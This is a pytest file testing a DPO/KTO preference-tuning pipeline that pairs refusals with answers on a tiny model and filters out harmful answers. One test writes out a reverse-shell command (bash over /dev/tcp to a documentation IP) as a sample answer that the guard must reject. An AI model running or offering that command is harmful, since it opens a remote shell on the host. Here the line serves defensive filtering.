"""Preferences from a teaching set, and tuning on them with TRL's own trainers on a tiny model."""

import json
from pathlib import Path

import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st

from deployments.adapter import open_adapter
from deployments.chat import ChatFormat, Turn
from guards import rules
from tests.unit.train.preference_rows import FAMILIES, write_preference_rows
from tests.unit.train.tiny_model import write_model
from train import prefer
from train.errors import DatasetError, RunError
from train.lora.base import load_base, with_adapter
from train.lora.dataset import Conversation, read
from train.lora.loop import export_adapter
from train.lora.plan import Plan
from train.lora.preparing import open_base
from train.lora.run_file import Named, RunFile
from train.preference import fitting, pair, preparing, running
from train.preference.bank import Bank
from train.preference.building import balanced, build, choose, counts
from train.preference.complying import goes_along, harmless
from train.preference.fitting import Task, paired, unpaired
from train.preference.outcome import newest
from train.preference.settings import DEFAULTS, Settings

PLAN = Plan.model_validate(
    DEFAULTS | {"rank": 4, "length": 1024, "batch": 4, "micro": 2, "steps": 4, "every": 2, "rows": 16, "held": 4,
                "dtype": "fp32", "rate": 3e-3}
)  # fmt: skip


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("prefer")


@pytest.fixture(scope="module")
def rows(folder) -> Path:
    return write_preference_rows(folder / "rows")


@pytest.fixture(scope="module")
def model(folder) -> Path:
    return write_model(folder / "tiny")


@pytest.fixture(scope="module")
def adapter(folder, model) -> Path:
    """An adapter as train.finetune leaves it, with some effect."""
    base, made = open_base(str(model), folder), folder / "sft"
    tuned = with_adapter(load_base(model, PLAN, torch.device("cpu")), PLAN)
    weights = {name: value for name, value in tuned.named_parameters() if value.requires_grad}
    torch.manual_seed(1)
    export_adapter(tuned, {name: torch.randn_like(value) * 0.02 for name, value in weights.items()}, base.name, made)
    RunFile(
        name="sft", job="finetune", plan=PLAN, base=Named(name=base.name, digest=base.digest), dataset=None,
        adapter_digest=open_adapter(made).digest, metrics={}, workers=1, commit="", versions={}, seconds=0.0,
        finished="2026-11-28", command="", curve=[],
    ).write(made)  # fmt: skip
    return made


def wanted(folder: Path, model: Path, adapter: Path, rows: Path, **more: object) -> preparing.Wanted:
    method = str(more.pop("method", "dpo"))
    plan = PLAN.model_copy(update=dict(more.pop("plan", {})))
    settings = Settings(method=method, plan=plan, sampled=int(more.pop("sampled", 0)))
    return preparing.Wanted(str(model), folder, adapter, str(rows), str(folder / "runs"), settings=settings, **more)


def conversation(number: int, family: str, template_split: str = "train", canary: bool = False) -> Conversation:
    turns = (Turn("system", "s"), Turn("user", f"ask {number}"), Turn("assistant", f"answer {number}"))
    return Conversation(f"{number:032x}", turns, family, "answer", "train", template_split, canary)


@given(
    st.lists(st.sampled_from(["refuse", "benign", "lesson", "define"]), max_size=60),
    st.integers(2, 80),
)
def test_both_sides_get_as_many_pairs(families, most) -> None:
    found = [conversation(number, family) for number, family in enumerate(families)]
    if "refuse" not in families or "benign" not in families:
        with pytest.raises(DatasetError, match="both sides"):
            choose(found, most)
        return
    pairs = build(choose(found, most), Bank.load(), {})
    told = counts(pairs)
    assert told["refuse"]["pairs"] == told["answer"]["pairs"] <= max(1, most // 2)
    assert balanced(pairs) == sorted(pairs, key=lambda each: each.side == "answer")
    assert {each.id for each in pairs} <= {each.id for each in found}
    assert all(each.chosen != each.rejected for each in pairs)


def test_held_out_ways_to_ask_and_canaries_stay_out() -> None:
    found = [conversation(n, family) for n, family in enumerate(["refuse", "benign"])]
    found += [conversation(2, "refuse", "test"), conversation(3, "benign", canary=True)]
    assert {row.id for those in choose(found, 100).values() for row in those} == {row.id for row in found[:2]}


def test_an_uneven_rest_is_left_out_and_none_is_an_error() -> None:
    found = [conversation(n, family) for n, family in enumerate(["refuse", "benign", "benign", "refuse"])]
    pairs = build(choose(found, 100), Bank.load(), {})
    assert len(balanced(pairs[1:])) == 2
    with pytest.raises(DatasetError, match="both sides that fit"):
        balanced([each for each in pairs if each.side == "answer"])


def test_the_bank_holds_no_attack_and_knows_refusals_from_openings() -> None:
    bank = Bank.load()
    assert len(set(bank.refusals)) >= 15
    for text in (*bank.complying, *bank.bare):
        assert goes_along(text), text
        assert harmless(text), text
    for text in bank.refusals:
        assert not goes_along(text), text
        assert "{" not in text
    assert bank.opening("a") in bank.complying
    assert bank.opening("a") == Bank.load().opening("a")


def test_an_answer_with_attack_code_is_never_kept() -> None:
    shell = "Sure, use this: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    assert goes_along(shell)
    assert rules.payloads(shell)
    assert not harmless(shell)


def test_what_the_model_says_takes_the_place_of_the_bank() -> None:
    found = [conversation(n, family) for n, family in enumerate(["refuse", "benign", "refuse", "benign"])]
    pairs = build(choose(found, 100), Bank.load(), {found[0].id: "Sure, let us begin"})
    assert counts(pairs)["refuse"] == {"pairs": 2, "refuse/bank": 1, "refuse/model": 1}
    assert next(each for each in pairs if each.origin == "refuse/model").rejected == "Sure, let us begin"


def test_pairs_come_back_from_their_file(folder, rows) -> None:
    made = build(choose(read(str(rows), "train").rows, 20), Bank.load(), {})
    pair.write(str(folder), made)
    assert pair.read(str(folder)) == made
    with pytest.raises(DatasetError, match=r"pairs\.parquet"):
        pair.read(str(folder / "nowhere"))


def test_kto_takes_each_answer_once_wanted_or_not(rows) -> None:
    made = build(choose(read(str(rows), "train").rows, 20), Bank.load(), {})
    singles = unpaired(made, 7)
    assert sum(row["label"] for row in singles) == len(made) == len(singles) / 2
    assert unpaired(made, 7) == singles != unpaired(made, 8)
    assert len(paired(made, 7)) == len(made)


def test_trl_sees_the_tokens_that_the_tutor_is_served_with(folder, model, adapter, rows) -> None:
    """The prompt ids are those of deployments.chat, and the answers those of fine-tuning."""
    made = balanced(build(choose(read(str(rows), "train").rows, 8), Bank.load(), {}))
    base = open_base(str(model), folder)
    task = Task(Settings(method="dpo", plan=PLAN), base, adapter, tuple(made), (), folder / "tokens")
    found = fitting.build(task, 1, []).train_dataset
    chat = ChatFormat.load(model)
    asked = {tuple(chat.encode(each.prompt)) for each in made}
    assert {tuple(row["prompt_ids"]) for row in found} == asked
    answers = {tuple(chat.encode_answer(each.chosen)) for each in made}
    newline = chat.encode_answer("\n")[0]
    ends = {tuple(ids[:-1]) if ids[-1] == newline else tuple(ids) for ids in (row["chosen_ids"] for row in found)}
    assert ends == answers


@pytest.mark.parametrize("method", ["dpo", "kto"])
def test_a_run_tunes_and_a_cut_off_one_goes_on_to_the_same_adapter(
    method, folder, model, adapter, rows, monkeypatch
) -> None:
    def called(*_: object, **__: object) -> None:
        raise AssertionError("TRL reported home")

    monkeypatch.setattr("trl.trainer.base_trainer.send_telemetry", called)
    monkeypatch.delenv("CI", raising=False)
    asked = wanted(folder, model, adapter, rows, name=f"{method}-whole", method=method)
    prepared = preparing.prepare(asked, print)
    whole = running.run(prepared, "test")
    made = folder / "runs" / f"{method}-whole" / "adapter"
    assert RunFile.read(made) == whole
    assert whole.adapter_digest == open_adapter(made).digest != open_adapter(adapter).digest
    assert whole.start_adapter == open_adapter(adapter).digest
    assert json.loads((made / "adapter_config.json").read_text())["base_model_name_or_path"] == "tiny"
    told = json.loads((made / "preferences.json").read_text())["sides"]["train"]
    assert told["refuse"]["pairs"] == told["answer"]["pairs"] == 8
    assert whole.metrics["steps"] == 4
    assert {"eval_loss", "eval_loss_refuse", "eval_loss_answer"} <= whole.metrics.keys()
    assert [point.step for point in whole.curve if point.eval_loss is not None] == [2, 4]
    assert (made / "loss.svg").read_text().startswith("<svg")

    work = folder / "runs" / f"{method}-whole" / "trainer"
    last = newest(work)
    assert last is not None
    assert last.name == "checkpoint-4"
    (last / "trainer_state.json").unlink()  # as if the process had died while it wrote the last checkpoint
    again = running.run(preparing.prepare(asked, print), "test")
    assert again.adapter_digest == whole.adapter_digest
    assert [point.loss for point in again.curve] == pytest.approx([point.loss for point in whole.curve], rel=1e-4)


def test_the_model_is_asked_for_its_own_answers(folder, model, adapter, rows) -> None:
    said: list[str] = []
    asked = wanted(folder, model, adapter, rows, name="sampled", sampled=2)
    prepared = preparing.prepare(asked, said.append)
    assert prepared.told["asked"] == 2
    assert said
    assert "asked the tuned model 2/2" in said[0]
    found = pair.read(prepared.place)
    own = [each.rejected for each in found if each.origin == "refuse/model"]
    assert all(goes_along(text) and harmless(text) for text in own)


def test_bad_input_is_told_before_anything_is_written(folder, model, adapter, rows, capsys) -> None:
    other = write_model(folder / "other", seed=5)
    one_sided = write_preference_rows(folder / "one-sided", families=(("refuse", "refuse"),))
    no_dev = folder / "no-dev"
    write_preference_rows(no_dev, count=15)
    cases = {
        "nowhere": {"--model": str(folder / "nowhere")},
        "expected an adapter": {"--adapter": str(folder)},
        "expected base other": {"--model": str(other)},
        "expected Parquet files": {"--teaching": str(folder / "tiny")},
        "families refuse and benign": {"--teaching": str(one_sided)},
        "expected rows of split dev": {"--teaching": str(no_dev)},
        "--use-gpu asks for": {"--use-gpu": None},
        "a multiple of": {"--batch": "3"},
        "compares neighbours": {"--method": "kto", "--micro": "1"},
        "greater than 0": {"--beta": "0"},
        "expected 0 or more": {"--num-workers": "-1"},
    }
    for message, changed in cases.items():
        options = {
            "--model": str(model), "--adapter": str(adapter), "--teaching": str(rows), "--out": str(folder / "bad"),
            "--name": "run", "--num-workers": "0", "--sampled": "0", "--length": "1024",
        } | changed  # fmt: skip
        given = [word for option, value in options.items() for word in ([option] if value is None else [option, value])]
        if message == "--use-gpu asks for" and torch.cuda.is_available():
            continue
        assert prefer.main(given) == 2, message
        assert message in capsys.readouterr().err
    assert not (folder / "bad").exists()


def test_a_name_that_is_taken_by_another_run_is_refused(folder, model, adapter, rows) -> None:
    preparing.prepare(wanted(folder, model, adapter, rows, name="taken"), print)
    with pytest.raises(RunError, match="run taken exists: expected settings"):
        preparing.prepare(wanted(folder, model, adapter, rows, name="taken", plan={"rate": 1e-3}), print)


def test_every_family_is_in_the_rows_that_these_tests_use() -> None:
    assert {family for family, _ in FAMILIES} >= {"refuse", "benign", "lesson"}
